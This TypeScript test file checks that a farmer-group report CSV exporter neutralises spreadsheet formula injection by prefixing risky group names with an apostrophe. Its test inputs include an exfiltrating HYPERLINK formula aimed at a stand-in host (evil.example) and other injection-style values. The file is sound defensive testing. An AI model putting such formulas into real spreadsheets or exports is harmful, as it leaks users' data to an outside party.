import t from 'tap';
import type { MonthlyReport, ReportFigures } from '@sutasoma/contracts';
import { reportCsv } from '../src/reports/csv.ts';

const figures = (n: number): ReportFigures => ({
  registrations: n, activeParticipants: n, pendingFirstPayment: 0, inArrears: 0, lapsed: 0, listedFarmers: 40, coverageRate: 0.25,
  contributions: n, contributionsAmount: n * 16_800, jkkReported: 0, jkkPaid: 0, jkkPaidAmount: 0, jkmReported: 0, jkmPaid: 0, jkmPaidAmount: 0, agentFees: 0,
});

/** A month at the farmer-group level; group names come from Simluhtan, a partner. */
const report = (names: string[]): MonthlyReport => ({
  period: '2026-11', level: 'group', monthEnd: '2026-11-30', provisional: false, version: 1, producedAt: '2026-12-01T00:05:00Z',
  trigger: 'schedule', directoryAsOf: null, changes: null, totals: figures(names.length * 10),
  rows: names.map((name, i) => ({ key: `KT-${i}`, name, bpp: '731201', figures: figures(10) })),
});

/** The cells of a CSV line as a spreadsheet splits them (quotes honoured). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') { cur += '"'; i++; } else if (c === '"') quoted = !quoted;
    else if (c === ',' && !quoted) { out.push(cur); cur = ''; } else cur += c;
  }
  return [...out, cur];
}

t.test('a group name a spreadsheet would run as a formula is written as text', async (t) => {
  const dangerous = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', '+62812', '-1+1', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
  const lines = reportCsv(report([...dangerous, 'Sipatuo', 'Tani Maju, Bila'])).replace(/^\uFEFF/, '').split('\r\n');
  const names = lines.slice(1, 1 + dangerous.length + 2).map((l) => cells(l)[3]);
  t.same(names.slice(0, dangerous.length), dangerous.map((d) => `'${d}`), 'each begins with an apostrophe: text, never a formula');
  for (const n of names.slice(0, dangerous.length)) t.notMatch(n!, /^[=+\-@\t\r]/);
  t.same(names.slice(dangerous.length), ['Sipatuo', 'Tani Maju, Bila'], 'other names as they are, a comma kept inside quotes');
  const total = cells(lines[1 + dangerous.length + 2]!);
  t.same(total.slice(0, 5), ['2026-11', 'group', 'TOTAL', 'Total', ''], 'the total row');
  t.equal(total[5], '80', 'numbers as they are');
});
